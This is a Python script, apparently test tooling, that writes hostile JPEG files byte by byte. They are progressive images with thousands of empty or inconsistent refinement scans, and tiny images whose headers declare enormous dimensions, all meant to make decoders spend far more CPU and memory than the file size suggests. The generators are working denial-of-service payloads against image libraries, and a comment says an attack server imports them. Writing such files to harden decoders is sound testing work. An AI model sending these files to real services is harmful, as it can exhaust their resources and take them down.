"""Small JPEGs whose decoding would cost far more than their size, for the tests.

  hostile_jpeg.py scans OUT N [refine]   a grey 1024x1024 progressive JPEG: one DC scan,
                                         then N AC scans that code nothing (one EOB run
                                         each, ~14 bytes a scan); with `refine`, a first
                                         AC scan at Al=1 and N refinement scans that all
                                         claim to refine bit 0 (an inconsistent
                                         progression: each revisits every coefficient)
  hostile_jpeg.py huge OUT W H [progressive]   a 16x16 JPEG whose frame header declares
                                         W x H: the image data stops long before such
                                         a size is paid for

Written byte by byte (PIL cannot write a scan sequence of our choosing).
"""
import io
import struct
import sys


def segment(marker, payload):
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def scans(n, refine):
    w = h = 1024
    blocks = (w // 8) * (h // 8)  # 16384: one EOB run (EOB14, run 16384 + 14 bits) covers them
    out = b"\xff\xd8"
    out += segment(0xDB, b"\x00" + bytes([1] * 64))  # DQT 0: all ones
    out += segment(0xC2, struct.pack(">BHHB", 8, h, w, 1) + b"\x01\x11\x00")  # SOF2, 1 component
    # DHT: DC table 0 with one code ('0' -> category 0), AC table 0 with one code ('0' -> EOB14)
    out += segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
    out += segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\xe0")

    def sos(ss, se, ah, al):
        return segment(0xDA, bytes([1, 1, 0x00, ss, se, ah << 4 | al]))

    out += sos(0, 0, 0, 0) + bytes(blocks // 8)  # one '0' bit a block: every DC difference 0
    eob_run = b"\x00\x01"  # '0' (EOB14), 14 zero bits (run 16384), a padding 1 bit
    if refine:
        out += sos(1, 63, 0, 1) + eob_run
        for _ in range(n):
            out += sos(1, 63, 1, 0) + eob_run
    else:
        for _ in range(n):
            out += sos(1, 63, 0, 0) + eob_run
    return out + b"\xff\xd9"


def huge(w, h, progressive):
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (16, 16), (90, 120, 150)).save(buf, "JPEG", quality=50, progressive=progressive)
    b = bytearray(buf.getvalue())
    i = 2
    while b[i + 1] not in (0xC0, 0xC1, 0xC2):
        i += 2 + struct.unpack(">H", b[i + 2:i + 4])[0]
    struct.pack_into(">HH", b, i + 5, h, w)
    return bytes(b)


if __name__ == "__main__":  # serve_attack.py imports the generators
    cmd, out = sys.argv[1], sys.argv[2]
    if cmd == "scans":
        data = scans(int(sys.argv[3]), len(sys.argv) > 4 and sys.argv[4] == "refine")
    elif cmd == "huge":
        data = huge(int(sys.argv[3]), int(sys.argv[4]), len(sys.argv) > 5 and sys.argv[5] == "progressive")
    else:
        sys.exit("hostile_jpeg.py: unknown command " + cmd)
    open(out, "wb").write(data)
